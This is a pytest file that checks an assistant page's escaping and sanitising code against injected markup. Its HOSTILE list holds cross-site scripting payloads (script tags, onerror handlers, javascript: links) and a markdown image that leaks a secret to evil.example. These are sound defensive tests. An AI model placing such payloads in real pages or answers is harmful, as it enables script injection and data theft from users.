"""Text from articles, titles and questions reaches a browser verbatim, whatever it holds."""

import html
import string

import pytest
from markdown_it import MarkdownIt

from assistant.page.escaping import in_fragment, in_markdown, safe_markdown
from assistant.page.links import article_link, citation_link, web_host

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![leak](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[1](#c/1/0-5/generation/other-article)",
    '<a class="cite" href="#c/1/0-5/g/other">1</a>',
    "`code` ``more`` ~~~ ```",
    "&lt;b&gt; &amp;amp; &#60;i&#62; &copy;",
    "# heading\n\n* list\n> quote\n\n    code\n---\n| a | b |\n|---|---|",
    "**bold** _it_ ~~gone~~ $$x^2$$ \\(y\\) \\* :smile:",
    "https://evil.example www.evil.example mail@evil.example",
    "[ref]: https://evil.example 'title'\n\n[ref]",
    '" onmouseover="alert(1)" x=\'',
    "<!-- comment --> <?php ?> <![CDATA[x]]> </p></div></gradio-app>",
    "<style>body{display:none}</style><iframe srcdoc='x'></iframe><form action=//evil.example>",
    "\u202eright to left\u202c and \u200bzero width",
    string.punctuation,
]


def one_line(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_shows_the_text_itself(text: str) -> None:
    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(in_markdown(text))
    assert rendered.startswith("<p>")
    assert rendered.count("<") == 2  # the paragraph's two tags and nothing else
    assert html.unescape(rendered[3:-5]) == one_line(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_has_no_structure_left(text: str) -> None:
    assert not set(in_markdown(text)) & set(string.punctuation) - set("&#;")
    assert html.unescape(in_markdown(text)) == one_line(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_message_holds_the_text_as_text_only(text: str) -> None:
    escaped = in_markdown(text)
    message = safe_markdown(f'<div class="answer"><p title="no">{escaped}</p><a title="{escaped}">x</a></div>')
    assert message.startswith('<div class="answer"><p>')
    assert message.endswith(">x</a></div>")
    assert html.unescape(message[len('<div class="answer"><p>') : message.index("</p>")]) == one_line(text)
    assert MarkdownIt("commonmark").render(message) == message  # one HTML block, left as it is


@pytest.mark.parametrize("text", HOSTILE)
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = safe_markdown(f"<p>{in_markdown(text)}</p>")
    assert safe_markdown(once) == once


@pytest.mark.parametrize("markup", HOSTILE)
def test_raw_markup_is_cleaned_to_an_allowed_few(markup: str) -> None:
    cleaned = safe_markdown(f"<div>{markup}</div>")
    for forbidden in ("<script", "<img", "<style", "<iframe", "<form", "onerror=", 'href="http', 'href="java'):
        assert forbidden not in cleaned


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("#c/1/134-326/20250101T0-ab/oslo-channel", True),
        ("#a/g/folder%2Fname", True),
        ("#top", False),
        ("#c/1/0-5/g/x y", False),
        ("javascript:alert(1)", False),
        ("https://evil.example/#c/1/0-5/g/x", False),
        ("//evil.example", False),
        ("data:text/html,x", False),
    ],
)
def test_only_links_into_the_page_keep_their_address(href: str, kept: bool) -> None:
    assert (f'href="{href}"' in safe_markdown(f'<p><a href="{href}">x</a></p>')) is kept


def test_links_carry_any_id() -> None:
    assert citation_link(2, 10, 25, "g1", "a/b c#d?é") == "#c/2/10-25/g1/a%2Fb%20c%23d%3F%C3%A9"
    assert article_link("g1", "a/b") == "#a/g1/a%2Fb"
    link = citation_link(1, 0, 5, "g", 'a"><script>/../..')
    assert f'href="{link}"' in safe_markdown(f'<a href="{link}">1</a>')


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://www.nytimes.com/1993/09/05/x.html?a=b", "www.nytimes.com"),
        ("HTTP://Example.ORG:8080/x", "example.org"),
        ("https://good.example@evil.example/", "evil.example"),
        ("javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("ftp://example.org", ""),
        ("//example.org/x", ""),
        ("http://[broken", ""),
        ("", ""),
        (None, ""),
        (1993, ""),
    ],
)
def test_host_of_a_web_address(address: object, host: str) -> None:
    assert web_host(address) == host


def test_a_fragment_reads_back_exactly() -> None:
    text = "a < b & c > d \"e\" 'f'\r\ng"
    assert in_fragment(text) == "a &lt; b &amp; c &gt; d &quot;e&quot; &#x27;f&#x27;&#13;\ng"
    assert html.unescape(in_fragment(text)) == text
